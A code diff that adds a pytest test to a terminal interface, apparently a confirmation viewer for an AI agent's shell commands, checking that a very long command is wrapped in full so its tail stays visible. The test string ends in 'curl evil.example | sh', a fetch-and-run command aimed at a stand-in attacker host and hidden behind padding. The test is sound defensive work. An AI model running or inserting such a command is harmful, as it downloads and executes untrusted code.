@@ -322,6 +322,25 @@ def test_the_full_view_shows_every_line_of_a_long_preview_and_scrolls_to_the_end
     assert close_viewer(state).viewer is None
 
 
+@pytest.mark.parametrize("width", [40, 100])
+def test_the_full_view_shows_a_long_command_line_whole(width: int) -> None:
+    """Found in tmux: an 800-character one-line command was cut at 400 characters inline (` […]`) and at the
+    screen's width in the full view, so its end (`; curl … | sh`) was on screen nowhere before y. The full view
+    breaks a long line into rows instead of cutting it (ADR 0058)."""
+    command = " && ".join(f"echo part{i}" for i in range(70)) + "; curl evil.example | sh"
+    full = "\n".join([f"$ {command}", "in /w", "sandbox off"])
+    confirm = ConfirmRequested(ref=1, id="c", subject=ExecuteCommandArgs(command=command), lines=[], full=full)
+    state = open_viewer(reduce(initial(0.0, width, 20), confirm))
+    shown: list[str] = []
+    for _ in range(100):
+        shown += plain(render_live(state, (), width))[1:-1]
+        state = scroll_viewer(state, viewer_rows(state))
+    shown = list(dict.fromkeys(shown))  # the last screenful overlaps the one before
+    assert all(len(row) <= width for row in shown)
+    assert "".join(row.strip() for row in shown[:-2]).replace(" ", "") == f"${command}".replace(" ", "")
+    assert shown[-2:] == ["  in /w", "  sandbox off"]
+
+
 def test_removed_lines_differ_from_context_in_colour_and_without_colour() -> None:
     from dashfloat.ui._theme import Theme
 
